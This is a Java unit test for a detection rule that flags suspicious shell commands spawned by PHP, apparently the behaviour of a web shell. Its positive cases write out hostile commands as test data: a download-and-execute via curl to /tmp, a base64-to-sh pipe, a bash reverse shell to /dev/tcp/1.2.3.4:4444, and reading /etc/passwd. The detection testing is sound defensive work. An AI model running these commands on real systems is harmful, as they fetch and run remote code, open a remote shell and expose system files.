package io.spawnwatch.rules;

import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_EXECUTION;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_CHILD;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_NETWORK;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.matching;
import static io.spawnwatch.rules.BuiltinRuleFixture.loginShellChild;
import static io.spawnwatch.rules.BuiltinRuleFixture.rule;
import static io.spawnwatch.rules.BuiltinRuleFixture.shFromPhp;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.rules.sigma.SigmaRule;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Positive and negative events for one shipped rule, as the Debian 12 sensor reports them. */
class SuspiciousCommandExecutionRuleTest {
    private final SigmaRule rule = rule(SUSPICIOUS_COMMAND);

    @Test
    void shouldMatchWebShellCommands() {
        assertTrue(rule.detection().matches(shFromPhp("id")));
        assertTrue(rule.detection().matches(shFromPhp("curl -s http://e/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")));
        assertTrue(rule.detection().matches(shFromPhp("echo aWQ= | base64 -d | sh")));
        assertTrue(rule.detection().matches(
                TestEvent.phpFpmChild("/usr/bin/bash", "bash", "bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")));
        assertTrue(rule.detection().matches(shFromPhp("cat /ETC/PASSWD")));
    }

    @Test
    void shouldNotMatchKnownProbesOrHarmlessCommands() {
        assertFalse(rule.detection().matches(shFromPhp("/usr/bin/php -r 'echo phpversion();'")));
        assertFalse(rule.detection().matches(shFromPhp("convert in.png out.jpg")));
        assertFalse(rule.detection().matches(TestEvent.phpFpmChild("/usr/bin/dash", "sh", "sh /srv/x.sh")));
        assertFalse(rule.detection().matches(loginShellChild("/usr/bin/dash", "sh", "sh -c id")));
    }
}
